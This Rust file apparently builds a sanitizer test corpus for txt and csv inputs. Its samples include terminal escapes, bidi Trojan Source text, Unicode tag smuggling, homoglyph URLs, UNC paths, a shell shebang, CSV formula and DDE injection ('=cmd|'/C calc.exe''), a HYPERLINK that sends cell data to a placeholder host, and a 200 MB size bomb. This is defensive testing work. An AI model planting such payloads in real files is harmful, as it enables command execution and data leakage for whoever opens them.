//! Samples of the areas `txt` and `csv`.

use crate::sample::{Index, KillMarker};

/// The samples of both areas.
pub fn samples(index: &mut Index) {
    index.benign("benign.txt", "txt", |m| format!("{}\r\n日本語の文書です。\r\n", m.keep).into_bytes());
    index.benign("benign.csv", "csv", |m| format!("{},-5,+81-3-1234-5678\r\n", m.keep).into_bytes());

    index.absent("txt.terminal-escapes", "txt", |m| {
        format!("{}\u{1b}]0;{}\u{7}\r\n\u{9b}31mx\r\n", m.keep, m.kill).into_bytes()
    });
    index.stays("txt.bidi-trojan-source", "txt", |m| {
        format!("{}\r\naccess = \"user\u{2066}// {}\"\r\n", m.keep, m.kill).into_bytes()
    });
    index.absent("txt.invisible-and-tag-characters", "txt", |m| {
        let tags: String =
            m.kill.chars().filter_map(|letter| char::from_u32(0xe0000 + letter as u32)).collect();
        format!("{}{tags}\r\n", m.keep).into_bytes()
    });
    index.stays("txt.homoglyphs-and-confusables", "txt", |m| {
        format!("{}\r\n\u{ff48}ttps://{}\u{3002}example\u{3002}invalid\r\n", m.keep, m.kill).into_bytes()
    });
    index.absent("txt.encoding-confusion", "txt", |m| {
        let mut file = format!("{}\r\n", m.keep).into_bytes();
        file.extend(b"a\xc0\xafb");
        file
    });
    index.stays("txt.script-content-sniffing", "txt", |m| {
        format!("#!/bin/sh\n{} {}\n[InternetShortcut]\nURL=file://host.example.invalid\n", m.kill, m.keep)
            .into_bytes()
    });
    index.stays("txt.dangerous-urls-autolink", "txt", |m| {
        format!("{}\r\nsee \\\\host.example.invalid\\{}\r\n", m.keep, m.kill).into_bytes()
    });

    index
        .stays("csv.formula-injection", "csv", |m| {
            format!("{},=cmd|'/C calc.exe {}'!A0,@SUM(1+1),＝1+1,-5,+81-3-1234-5678\r\n", m.keep, m.kill)
                .into_bytes()
        })
        .also(&["csv.dde-and-network-functions"]);
    index
        .stays("csv.dde-and-network-functions", "csv", |m| {
            format!(
                "{0},\"=HYPERLINK(\"\"https://host.example.invalid/?x={1}\"\"&A1,\"\"{0}\"\")\"\r\n",
                m.keep, m.kill
            )
            .into_bytes()
        })
        .also(&["csv.formula-injection"]);
    index
        .stays("csv.delimiter-quote-confusion", "csv", |m| {
            format!("\"{};=cmd|'/C {}'!A0\";x\r\na;b\r\n", m.keep, m.kill).into_bytes()
        })
        .also(&["csv.formula-injection", "csv.dde-and-network-functions"]);
    index
        .stays("csv.encoding-and-sylk-magic", "csv", |m| {
            format!("ID;P{}\r\n{};x\r\n", m.kill, m.keep).into_bytes()
        })
        .also(&["csv.formula-injection"]);
    index
        .either("csv.size-and-shape-bomb", "csv", |m| {
            [vec![b'a'; 200 << 20], m.kill.clone().into_bytes()].concat()
        })
        .marker(KillMarker::Stays)
        .also(&["file.global-expansion-budget"]);
}
